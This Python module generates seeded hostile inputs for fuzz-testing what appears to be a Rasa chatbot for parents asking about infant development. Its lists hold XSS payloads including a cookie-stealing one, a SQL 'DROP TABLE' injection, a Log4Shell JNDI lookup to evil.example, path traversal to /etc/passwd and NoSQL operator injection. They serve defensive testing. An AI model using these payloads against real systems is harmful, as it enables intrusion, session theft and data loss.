"""Hostile inputs for the fuzz tests (tests/test_fuzz.py): every draw comes from one seeded random.Random,
so a failure reproduces from the seed and the case's index.

`Hostile.text()` is what a parent (or an attacker) could type; `value()` is any JSON value where a string is
expected; `sender()` an odd conversation id; `raw_body()` bytes that are not the JSON a channel expects.
Slash commands use every intent of the domain and inject entities and slots ("/greet{"red_flag": {"x": 1}}").
"""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any, Callable, Dict, List, Sequence, Tuple

import yaml

ROOT = Path(__file__).resolve().parents[2]

PARENT_TEXTS = [
    "my 9 month old crawls backwards",
    "she is 14 months and not walking",
    "hello",
    "yes",
    "no",
    "option 2",
    "he was born 6 weeks early",
    "what about tummy time?",
    "thanks, bye",
    "can I talk to a person",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "</textarea><svg/onload=alert(1)>",
    "[click me](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "<a href='//evil.example'>help</a>",
    "**bold** _it_ `code` ```block```",
    "<iframe src=//evil.example></iframe>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "'; DROP TABLE events; --",
    "%s%s%s%n",
    "${jndi:ldap://evil.example/a}",
    "\\u0000\\x00",
    "{0.__class__}",
]
ODD_IDS = [
    "../../etc/passwd",
    "..\\..\\windows",
    "%00",
    "a%00b",
    "%2e%2e%2f",
    "/",
    ".",
    "..",
    "\x00",
    "",
    " ",
    "\n",
    "id?token=x",
    "id#frag",
    "null",
    "undefined",
    "<script>",
    "💥",
    "\u202eevil",
]
INJECTIONS = [
    {"red_flag": {"x": 1}},
    {"age_months": "NaN"},
    {"age_months": -1},
    {"age_months": 1e308},
    {"referral": "none"},
    {"referral": "urgent"},
    {"weeks_early": [1, 2]},
    {"topic": None},
    {"triage_state": {"a": "b"}},
    {"observations": "x"},
]
EMOJI = ["😀", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇬🇧", "👍🏽", "\U0001f9d1\u200d\U0001f37c", "🍼", "\u2764\ufe0f"]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"]
BIDI = ["\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f"]


def domain_names(root: Path = ROOT) -> Tuple[List[str], List[str]]:
    """The intents and slots of the domain (domain/*.yml, the generated part included)."""
    intents, slots = set(), set()
    for path in sorted((root / "domain").glob("*.yml")):
        data = yaml.safe_load(path.read_text(encoding="utf-8")) or {}
        intents.update(i if isinstance(i, str) else next(iter(i)) for i in data.get("intents") or [])
        slots.update((data.get("slots") or {}).keys())
    return sorted(intents), sorted(slots)


def deep_json(levels: int, rng: random.Random) -> str:
    """A JSON text nested `levels` deep (lists or objects)."""
    if rng.random() < 0.5:
        return "[" * levels + "1" + "]" * levels
    return '{"a":' * levels + "1" + "}" * levels


def shorten(value: Any, limit: int = 200) -> str:
    """A printable, truncated repr of an input, for assertion messages."""
    text = value.decode("utf-8", "backslashreplace") if isinstance(value, bytes) else repr(value)
    return text if len(text) <= limit else f"{text[:limit]}… ({len(text):,} chars)"


class Hostile:
    """Generator of hostile inputs, all drawn from random.Random(seed)."""

    def __init__(self, seed: int, intents: Sequence[str], slots: Sequence[str]) -> None:
        self.rng = random.Random(seed)
        self.intents = list(intents)
        self.slots = list(slots)

    def choice(self, options: Sequence[Any]) -> Any:
        return options[self.rng.randrange(len(options))]

    # ---- text ----

    def slash_command(self) -> str:
        """A Rasa command for a domain intent, maybe with injected entities/slots, a confidence, or trailing text."""
        rng = self.rng
        command = "/" + self.choice(self.intents + ["restart", "session_start", "back", "nlu_fallback", "no_such_intent"])
        roll = rng.random()
        if roll < 0.4:
            injection = dict(self.choice(INJECTIONS))
            if rng.random() < 0.5 and self.slots:
                injection[self.choice(self.slots)] = self.value(depth=1)
            command += json.dumps(injection)
        elif roll < 0.5:
            command += self.choice(['{"red_flag": ', "{", '{"a":}', "[1,2]", '{"age_months": NaN}', "{}" * 50])
        if rng.random() < 0.2:
            command += self.choice(["@1.0", "@0", "@-5", "@1e999", "@nan"])
        if rng.random() < 0.2:
            command += " " + self.choice(["my baby is having a seizure", "hello", "<b>x</b>"])
        return self.choice(["", " ", "//", "\u200b"]) + command if rng.random() < 0.15 else command

    def text(self) -> str:
        """Something typed into a chat: ordinary, marked-up, invisible, enormous or a command."""
        rng = self.rng
        kind = rng.random()
        if kind < 0.08:
            return self.choice(PARENT_TEXTS)
        if kind < 0.30:
            return self.slash_command()
        if kind < 0.40:
            return self.choice(MARKUP) + (" " + self.choice(PARENT_TEXTS) if rng.random() < 0.5 else "")
        if kind < 0.48:  # lone surrogates (sent as JSON escapes "\ud800")
            return "".join(self.choice(["\ud800", "\udfff", "\udbff", "a", " ", "\ud83d"]) for _ in range(rng.randint(1, 20)))
        if kind < 0.55:
            return self.choice(BIDI) + self.choice(PARENT_TEXTS) + self.choice(BIDI)
        if kind < 0.61:
            base = self.choice(PARENT_TEXTS)
            return "".join(c + self.choice(ZERO_WIDTH) for c in base) if rng.random() < 0.7 else self.choice(ZERO_WIDTH) * 50
        if kind < 0.67:  # NUL and other control characters
            return "".join(
                self.choice(["\x00", "\x01", "\x1b[31m", "\r", "\x7f", "\x85", "a", "hi"]) for _ in range(rng.randint(1, 30))
            )
        if kind < 0.72:
            return "".join(self.choice(EMOJI) for _ in range(rng.randint(1, 200)))
        if kind < 0.76:  # combining marks x10k
            return "a" + "".join(self.choice(["\u0301", "\u0308", "\u0336", "\u20dd"]) * 100 for _ in range(100))
        if kind < 0.82:  # just over a limit, or far over
            return self.choice(["a", "word ", "é", "😀", "<b>"]) * self.choice([1_001, 2_000, 4_097, 20_000, 100_000])
        if kind < 0.87:
            return self.choice(["", " ", "\n\n", "\t", "   \u3000  "])
        if kind < 0.92:
            return self.choice(ODD_IDS) + " " + self.choice(PARENT_TEXTS)
        return "".join(
            chr(rng.choice([rng.randint(0x20, 0x7E), rng.randint(0xA0, 0xD7FF), rng.randint(0xE000, 0x10FFFF)]))
            for _ in range(rng.randint(1, 300))
        )

    def value(self, depth: int = 0) -> Any:
        """Any JSON value where a string is expected."""
        rng = self.rng
        options: List[Callable[[], Any]] = [
            lambda: rng.randint(-(2**63), 2**63),
            lambda: 10**400,
            lambda: rng.random() * 1e308,
            lambda: None,
            lambda: rng.random() < 0.5,
            lambda: [],
            lambda: {},
            lambda: [self.text()],
            lambda: {"text": self.text()},
            lambda: -0.0,
            lambda: "",
            lambda: {"$gt": ""},
            lambda: ["a"] * rng.randint(1, 1000),
        ]
        if depth < 2:
            options.append(lambda: {self.text()[:50]: self.value(depth + 1)})
            options.append(lambda: [self.value(depth + 1) for _ in range(3)])
        return self.choice(options)()

    def sender(self, tag: str) -> Any:
        """An odd conversation id (made unique with `tag` when it is a string)."""
        rng = self.rng
        roll = rng.random()
        if roll < 0.10:
            return self.value()
        if roll < 0.20:
            return "x" * self.choice([256, 1_000, 10_000, 100_000]) + tag
        if roll < 0.60:
            return self.choice(ODD_IDS) + tag
        if roll < 0.70:
            return self.text()[:500] + tag
        return f"fuzz-{tag}"

    # ---- raw bodies ----

    def raw_body(self) -> Tuple[bytes, str]:
        """Bytes that are not the expected JSON, and the content type to send them with."""
        rng = self.rng
        kind = rng.randrange(9)
        kind = 0 if kind == 4 and rng.random() < 0.85 else kind  # the megabyte bodies stay rare (under 2%)
        if kind == 0:
            return rng.randbytes(rng.randint(1, 4000)), self.choice(["application/json", "application/octet-stream", ""])
        if kind == 1:
            good = json.dumps({"sender": "s", "message": "hello"}).encode()
            return good[: rng.randint(0, len(good) - 1)], "application/json"  # truncated
        if kind == 2:
            return deep_json(self.choice([100, 1_000, 10_000, 100_000]), rng).encode(), "application/json"
        if kind == 3:
            return self.choice(
                [b"null", b"[]", b'"text"', b"1e999999", b"NaN", b"-Infinity", b"true", b"{}", b"[{}]"]
            ), "application/json"
        if kind == 4:  # a body megabytes long
            return b'{"sender": "big", "message": "' + b"A" * rng.choice([1, 2, 4]) * 1_000_000 + b'"}', "application/json"
        if kind == 5:
            return b'{"sender": "s", "message": "\\ud800\\udc00\\ud800", "metadata": "\\u0000"}', "application/json"
        if kind == 6:
            return '{"sender": "s", "message": "é"}'.encode("utf-16"), "application/json; charset=utf-16"
        if kind == 7:
            return b"sender=s&message=" + rng.randbytes(50), "application/x-www-form-urlencoded"
        return b'{"sender": "s", "sender": {"x": 1}, "message": "a", "message": [1]}', "application/json"  # duplicate keys

    def json_bytes(self, payload: Any) -> bytes:
        """payload as JSON; lone surrogates become \\ud800 escapes (ensure_ascii), huge ints stay digits."""
        return json.dumps(payload, ensure_ascii=True).encode()

    def rest_payload(self, tag: str) -> Dict[str, Any]:
        """A REST webhook body: the expected keys with hostile values (strings where possible)."""
        rng = self.rng
        body: Dict[str, Any] = {
            "sender": self.sender(tag),
            "message": self.text() if rng.random() < 0.75 else self.value(),
        }
        if rng.random() < 0.3:
            body["metadata"] = self.value() if rng.random() < 0.7 else {"token": "x", "sender": "other"}
        if rng.random() < 0.2:
            body["input_channel"] = self.value() if rng.random() < 0.5 else self.text()[:100]
        if rng.random() < 0.1:
            body.pop(self.choice(["sender", "message"]))
        return body
